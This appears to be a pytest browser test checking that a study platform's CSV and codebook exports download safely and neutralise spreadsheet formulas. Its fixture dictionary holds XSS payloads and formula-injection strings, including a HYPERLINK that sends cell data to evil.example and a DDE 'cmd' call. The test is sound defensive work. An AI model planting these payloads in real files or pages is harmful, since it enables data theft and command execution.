"""A researcher's exports of a study whose stored data are hostile, in a real browser
(issue 14). Image names and labels, a condition, block names and a participant's client
fields hold HTML and spreadsheet formulas. Each CSV is a download that no page renders
(served as an attachment, text/csv, nosniff), no script runs, and pandas reads back every
row with no text cell that a spreadsheet would run as a formula. The codebook, which quotes
the condition and block names, is a JSON download too (issue 15)."""

import json
import os
from pathlib import Path

import pandas as pd
import pytest

from tests.browser.conftest import Server, free_port

pytestmark = pytest.mark.browser
SLUG = "hostile"
PASSWORD = "pw-researcher"  # tests.factories.researcher()
# What Excel and LibreOffice run as a formula when a cell begins with it (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "image_names": ['=HYPERLINK("http://evil.example/?"&A1,"open")', "\t=1+1", "\r-2+3"],
    "true_labels": ["<script>alert(1)</script>", "@SUM(1+1)", "+cmd|' /C calc'!A0"],
    "condition": "<b onmouseover=alert(1)>c</b>",
    "blocks": ["<svg onload=alert(1)>", '=HYPERLINK("http://evil.example/?x","y")'],
    "title": "<script>alert('title')</script>",
    "client": {"input": "<img src=x onerror=alert(1)>", "hidden_ms": "=1+1", "dpr": -1.5},
}
# Run by `manage.py shell` in the server's database, after `HOSTILE = {...}`: a live study
# built by the test factories, two participants who complete it through the API, then the
# hostile values written straight into the rows (as a row stored before the API typed its
# input, or edited in the database, would hold them). Prints what the exports must contain.
BUILD = """
import json, pathlib, tempfile
from rest_framework.test import APIClient
from inference.models import Image
from studies.models import Condition, Item, Participant, Response
from studies.services.launch import launch
from tests import factories
from tests.conftest import ParticipantClient

blocks = [{"name": name, "explanation_display": "none"} for name in HOSTILE["blocks"]]
study = factories.study(
    pathlib.Path(tempfile.mkdtemp()), n_images=4, live=False, slug=SLUG, title=HOSTILE["title"], blocks=blocks
)
Condition.objects.create(study=study, name=HOSTILE["condition"])
launch(study)
images = Image.objects.filter(image_sets=study.image_set).order_by("id")
for image, name, label in zip(images, HOSTILE["image_names"], HOSTILE["true_labels"]):
    Image.objects.filter(pk=image.pk).update(original_name=name, true_label=label)
for _ in range(2):
    participant = ParticipantClient(APIClient(), SLUG)
    assert participant.enter().status_code == 201
    assert participant.consent().status_code == 200
    participant.complete()
responses = Response.objects.filter(trial__participant__study=study).order_by("id")
Response.objects.filter(pk=responses[0].pk).update(client=HOSTILE["client"])
factories.researcher("researcher", True, "view_study")
print(json.dumps({
    "study": study.pk,
    "responses": sorted(responses.values_list("trial_id", flat=True)),
    "hostile_trial": responses[0].trial_id,
    "participants": sorted(Participant.objects.filter(study=study).values_list("pseudonym", flat=True)),
    "items": sorted(Item.objects.filter(version__study=study).values_list("id", flat=True)),
}))
"""


class ExportServer(Server):
    """The development server on a database that holds only the hostile study."""

    ready_path = f"/s/{SLUG}/"


@pytest.fixture(scope="module")
def hostile(browser, tmp_path_factory):
    """A server on a fresh embedded database holding the hostile study, and what its
    exports must contain. Needs `browser` first, so that a missing Chromium stops the test
    before anything is built."""
    data = tmp_path_factory.mktemp("export-data")
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "REDIS_URL", "CELERY_BROKER_URL")}
    env.update({"DJANGO_SETTINGS_MODULE": "config.settings.embedded", "SECONDLOOK_DATA_DIR": str(data)})
    server = ExportServer(env, free_port())
    server.manage("migrate", "--verbosity", "0")
    output = server.manage("shell", "-c", f"HOSTILE = {HOSTILE!r}\nSLUG = {SLUG!r}\n{BUILD}")
    built = json.loads(output.strip().splitlines()[-1])
    server.start()
    yield {"base": server.base, **built}
    server.stop()


def on_the_study_page(browser, hostile):
    """A researcher logged in on the study's admin page (its links lead to the exports), and
    the list of every dialog that any script opens from then on."""
    context = browser.new_context()
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    study_page = f"/admin/studies/study/{hostile['study']}/change/"
    page.goto(f"{hostile['base']}/admin/login/?next={study_page}")
    page.fill("#id_username", "researcher")
    page.fill("#id_password", PASSWORD)
    page.click("input[type=submit]")
    page.wait_for_url(f"{hostile['base']}{study_page}")
    return context, page, dialogs


def formula_cells(frame: pd.DataFrame) -> list[tuple[str, str]]:
    return [
        (column, value)
        for column in frame.columns
        for value in frame[column]
        if isinstance(value, str) and value.startswith(FORMULA_START)
    ]


def quoted(value: str) -> str:
    """The cell a stored text becomes: a leading quote where it would start a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value


def check_responses(frame: pd.DataFrame, hostile: dict) -> None:
    assert sorted(frame["trial_id"]) == hostile["responses"]
    for column in ("trial_id", "trial_index", "rt_ms", "image_width", "dpr"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column
    assert set(frame["condition"]) == {HOSTILE["condition"]}
    assert set(frame["block"]) == {quoted(name) for name in HOSTILE["blocks"]}
    assert {quoted(name) for name in HOSTILE["image_names"]} <= set(frame["image_name"])
    assert {quoted(label) for label in HOSTILE["true_labels"]} <= set(frame["true_label"])
    row = frame.set_index("trial_id").loc[hostile["hostile_trial"]]
    assert row["input"] == HOSTILE["client"]["input"]
    assert row["hidden_ms"] == "'=1+1"
    assert row["dpr"] == -1.5  # a negative number stays a number


def check_participants(frame: pd.DataFrame, hostile: dict) -> None:
    assert sorted(frame["participant"]) == hostile["participants"]
    assert set(frame["condition"]) == {HOSTILE["condition"]}
    for column in ("trials", "answered", "median_rt_ms"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column


def check_items(frame: pd.DataFrame, hostile: dict) -> None:
    assert sorted(frame["item_id"]) == hostile["items"]
    assert {quoted(name) for name in HOSTILE["image_names"]} <= set(frame["image_name"])
    assert {quoted(label) for label in HOSTILE["true_labels"]} <= set(frame["true_label"])
    for column in ("item_id", "study_version", "clean_prob"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column


CHECKS = {"responses": check_responses, "participants": check_participants, "items": check_items}


@pytest.mark.parametrize("table", CHECKS)
def test_a_hostile_csv_export_is_a_download_that_no_page_renders(browser, hostile, table):
    context, page, dialogs = on_the_study_page(browser, hostile)
    study_page = page.url
    url = f"{hostile['base']}/api/v1/studies/{SLUG}/export/{table}.csv"
    with page.expect_response(url) as answer, page.expect_download() as download:
        page.get_by_role("link", name=f"{table} CSV", exact=True).click()
    headers = answer.value.headers
    assert answer.value.status == 200
    assert headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == f'attachment; filename="{SLUG}-{table}.csv"'
    assert headers["x-content-type-options"] == "nosniff"
    assert download.value.suggested_filename == f"{SLUG}-{table}.csv"
    assert download.value.failure() is None
    # The admin page is still the one shown, in the only tab, and nothing ran.
    assert page.url == study_page
    assert context.pages == [page]
    page.wait_for_timeout(300)  # a script injected by the response would run by now
    assert dialogs == []

    frame = pd.read_csv(download.value.path())
    CHECKS[table](frame, hostile)
    assert formula_cells(frame) == []
    context.close()


def test_the_codebook_quoting_hostile_names_is_a_json_download(browser, hostile):
    context, page, dialogs = on_the_study_page(browser, hostile)
    study_page = page.url
    url = f"{hostile['base']}/api/v1/studies/{SLUG}/export/codebook.json"
    with page.expect_response(url) as answer, page.expect_download() as download:
        page.get_by_role("link", name="codebook", exact=True).click()
    headers = answer.value.headers
    assert answer.value.status == 200
    assert headers["content-type"] == "application/json"
    assert headers["content-disposition"] == f'attachment; filename="{SLUG}-codebook.json"'
    assert headers["x-content-type-options"] == "nosniff"
    assert download.value.suggested_filename == f"{SLUG}-codebook.json"
    shown = Path(download.value.path()).read_text(encoding="utf-8")
    for name in [HOSTILE["condition"], *HOSTILE["blocks"]]:
        assert json.dumps(name) in shown
    # Downloaded, not opened: the study page is still the one shown, and nothing ran.
    assert page.url == study_page
    assert context.pages == [page]
    page.wait_for_timeout(300)
    assert dialogs == []
    context.close()
